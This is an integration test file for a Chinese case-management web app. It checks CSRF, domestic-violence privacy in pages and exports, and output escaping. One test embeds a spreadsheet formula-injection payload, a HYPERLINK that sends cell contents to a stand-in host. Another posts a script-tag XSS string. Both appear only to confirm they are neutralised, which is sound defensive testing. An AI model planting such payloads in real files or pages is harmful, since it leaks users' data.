"""Case pages: list, registration form, case file with timeline and QR, CSRF on every form, DV privacy in
pages and exports."""

from __future__ import annotations

import csv
import io
import re

from server.directory.demo import DEMO_PASSWORD
from tests.integration.cases.helpers import act, create, hdr

TOKEN = re.compile(r'name="csrf_token" value="([^"]+)"')


def xlsx_text(body: bytes) -> str:
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(body))
    return "\n".join(",".join("" if v is None else str(v) for v in row) for ws in wb for row in ws.iter_rows(values_only=True))


async def test_case_exports_never_run_a_title_as_a_formula(client) -> None:
    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
    case = await create(client, title=hostile)
    await page_login(client, "mediator")
    rows = list(csv.reader(io.StringIO((await (await client.get("/cases/export.csv")).text()).lstrip("\ufeff"))))
    assert rows[0][:2] == ["案件编号", "标题"]
    row = next(r for r in rows if r[0] == case["code"])
    assert row[1] == "'" + hostile  # a leading apostrophe: the spreadsheet shows text
    r = await client.get("/cases/export.xlsx?lang=en")
    assert r.status == 200 and r.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "attachment" in r.headers["Content-Disposition"] and r.headers["Cache-Control"] == "no-store"
    ws = load_workbook(io.BytesIO(await r.read())).active
    assert [c.value for c in ws[1]][:2] == ["Case code", "Title"]
    cell = next(row[1] for row in ws.iter_rows(min_row=2) if row[0].value == case["code"])
    assert cell.value == hostile and cell.data_type == "s"  # a string cell, not a formula
    client.session.cookie_jar.clear()
    r = await client.get("/cases/export.xlsx", allow_redirects=False)
    assert r.status in (302, 401)  # not logged in: no data


async def page_login(client, username: str) -> str:  # type: ignore[no-untyped-def]
    """Log in through the form like a browser; returns a CSRF token for later forms."""
    client.session.cookie_jar.clear()
    r = await client.get("/login")
    token = TOKEN.search(await r.text()).group(1)
    r = await client.post("/login", data={"csrf_token": token, "username": username, "password": DEMO_PASSWORD,
                                          "next": "/"}, allow_redirects=False)
    assert r.status == 302, await r.text()
    return token


async def test_list_detail_timeline_and_qr(client) -> None:
    case = await create(client)
    await act(client, "mediator", case["code"], "triage", grade="orange")
    await page_login(client, "mediator")
    r = await client.get("/cases")
    html = await r.text()
    assert r.status == 200 and case["code"] in html and "橙色" in html
    r = await client.get(f"/cases?q={case['code']}&status=triaged&category=disputes")
    assert case["code"] in await r.text()
    r = await client.get("/cases?status=bogus")
    assert r.status == 200 and "没有这个状态。" in await r.text()  # the filter's error, in the page's language
    r = await client.get("/cases?status=bogus&lang=en")
    assert r.status == 200 and "unknown status" in await r.text()
    await client.get("/cases?lang=zh-CN")  # back to Chinese (the switch is remembered in a cookie)
    r = await client.get(f"/cases/{case['code']}")
    html = await r.text()
    assert r.status == 200
    assert "<svg" in html and "宅基地" in html and "分流研判" in html and "哈希链完整" in html
    assert 'action="/cases/' + case["code"] + '/transition"' in html
    html_en = await (await client.get(f"/cases/{case['code']}?lang=en")).text()
    assert "Timeline" in html_en and "Accept" in html_en and "hash chain intact" in html_en
    r = await client.get(f"/cases/{case['code']}/qr.svg")
    assert r.status == 200 and r.headers["Content-Type"].startswith("image/svg+xml")
    r = await client.get("/cases/340321-2026-999999")
    assert r.status == 404
    r = await client.get("/cases/not-a-code")
    assert r.status == 404


async def test_register_and_act_through_forms_with_csrf(client) -> None:
    token = await page_login(client, "mediator")
    form = {"csrf_token": token, "unit": "340321001", "title": "表单登记的邻里纠纷", "source": "walk_in",
            "kind": "dispute", "category_item": "disputes:neighbourhood", "p1_role": "applicant", "p1_name": "张三",
            "p2_role": "respondent", "p2_name": "李四"}
    r = await client.post("/cases/new", data={**form, "csrf_token": "forged"}, allow_redirects=False)
    assert r.status == 403
    r = await client.post("/cases/new", data={**form, "title": ""}, allow_redirects=False)
    assert r.status == 400
    # A refused form comes back with every party field as typed (only the mistake needs mending).
    typed = {"p2_role": "victim", "p2_id": "34032119750615456X", "p2_phone": "13812345678", "p2_phone_conf": "on",
             "p2_address": "龙亢镇新华村", "p2_address_conf": "on"}
    r = await client.post("/cases/new", data={**form, **typed, "title": ""}, allow_redirects=False)
    page = await r.text()
    assert r.status == 400
    for field in ("p2_id", "p2_phone", "p2_address"):
        assert f'name="{field}" maxlength' in page and f'value="{typed[field]}"' in page, field
    assert page.count(" checked>") >= 2 and '<option value="victim" selected>' in page
    r = await client.post("/cases/new", data=form, allow_redirects=False)
    assert r.status == 303, await r.text()
    code = r.headers["Location"].split("/cases/")[1].split("?")[0]
    # Triage through the page form.
    d = {"csrf_token": token, "action": "triage", "category_item": "disputes:neighbourhood", "grade": "blue"}
    r = await client.post(f"/cases/{code}/transition", data={**d, "csrf_token": ""}, allow_redirects=False)
    assert r.status == 403
    r = await client.post(f"/cases/{code}/transition", data=d, allow_redirects=False)
    assert r.status == 303 and "ok=" in r.headers["Location"]
    # A refused action comes back as a message, not an error page.
    r = await client.post(f"/cases/{code}/transition", data={"csrf_token": token, "action": "close"},
                          allow_redirects=False)
    assert r.status == 303 and "error=" in r.headers["Location"]
    r = await client.post(f"/cases/{code}/transition", data={"csrf_token": token, "action": "accept"})
    html = await r.text()
    assert "已受理" in html
    r = await client.post(f"/cases/{code}/transition",
                          data=[("csrf_token", token), ("action", "assign"), ("assignees", "mediator"),
                                ("assignees", "mediator_340321")])
    html = await r.text()
    assert "调解员张三" in html and "主办" in html
    # Stale edit from the page form: 409 message.
    r = await client.post(f"/cases/{code}/edit", data={"csrf_token": token, "version": "1", "title": "新标题"},
                          allow_redirects=False)
    assert "error=" in r.headers["Location"]


async def test_dv_privacy_in_pages_and_exports(client) -> None:
    dv = await create(client, title="家暴求助", category="policing", item="domestic_violence", parties=[
        {"role": "victim", "name": "王五", "phone": "13700003333", "address": "幸福村3组8号"},
        {"role": "perpetrator", "name": "赵六", "phone": "13600004444", "address": "幸福村3组8号"}])
    plain = await create(client, title="普通纠纷", parties=[
        {"role": "applicant", "name": "张三", "phone": "13800001111", "phone_confidential": True},
        {"role": "respondent", "name": "李四", "phone": "13900002222"}])
    victim_id = next(p["id"] for p in dv["parties"] if p["role"] == "victim")
    perp_id = next(p["id"] for p in dv["parties"] if p["role"] == "perpetrator")
    # Unlisted staff: the page is a 404 and the case is absent from lists and exports.
    await page_login(client, "mediator_340321")
    assert (await client.get(f"/cases/{dv['code']}")).status == 404
    assert (await client.get(f"/cases/{dv['code']}/qr.svg")).status == 404
    assert (await client.get(f"/cases/{dv['code']}/parties/{victim_id}/copy")).status == 404
    listing = await (await client.get("/cases")).text()
    assert dv["code"] not in listing and plain["code"] in listing
    export = await (await client.get("/cases/export.csv")).text()
    assert dv["code"] not in export and "13700003333" not in export
    # Named handler: sees the victim's details on the page...
    await page_login(client, "mediator")
    html = await (await client.get(f"/cases/{dv['code']}")).text()
    assert "13700003333" in html
    # ...but never in an export, nor in the copy handed to the other side.
    rows = list(csv.reader(io.StringIO((await (await client.get("/cases/export.csv")).text()).lstrip("\ufeff"))))
    text = "\n".join(",".join(r) for r in rows)
    assert dv["code"] in text and "13700003333" not in text and "幸福村3组8号" not in text
    assert "13800001111" not in text and "139****2222" in text  # confidential flag honoured; others masked
    sheet = xlsx_text(await (await client.get("/cases/export.xlsx")).read())
    assert dv["code"] in sheet and "13700003333" not in sheet and "幸福村3组8号" not in sheet
    assert "13800001111" not in sheet and "139****2222" in sheet
    copy = await (await client.get(f"/cases/{dv['code']}/parties/{perp_id}/copy")).text()
    assert "王五" in copy and "13700003333" not in copy and "幸福村3组8号" not in copy.split("赵六")[0]
    own = await (await client.get(f"/cases/{dv['code']}/parties/{victim_id}/copy")).text()
    assert "13700003333" in own
    # The API never shows the victim's details to named staff who are not handling it.
    h = await hdr(client, "mediator")
    r = await client.post(f"/api/cases/{dv['code']}/named-staff", headers=h, json={"add": ["mediator_340321"]})
    assert r.status == 200
    await page_login(client, "mediator_340321")
    html = await (await client.get(f"/cases/{dv['code']}")).text()
    assert "王五" in html and "13700003333" not in html and "（保密）" in html
    assert "幸福村3组8号" not in html  # not even through the perpetrator's identical address


async def test_notifications_notices_and_consultations_pages(client) -> None:
    token = await page_login(client, "supervisor")
    r = await client.post("/notices", data={"csrf_token": token, "kind": "commend", "title": "表扬通报",
                                            "body": "<script>alert(1)</script>"})
    html = await r.text()
    assert r.status == 200 and "表扬通报" in html and "<script>alert(1)</script>" not in html
    r = await client.post("/notices", data={"kind": "commend", "title": "x", "body": "y"})
    assert r.status == 403
    assert (await client.get("/notifications")).status == 200
    await page_login(client, "expert")
    assert (await client.get("/consultations")).status == 200
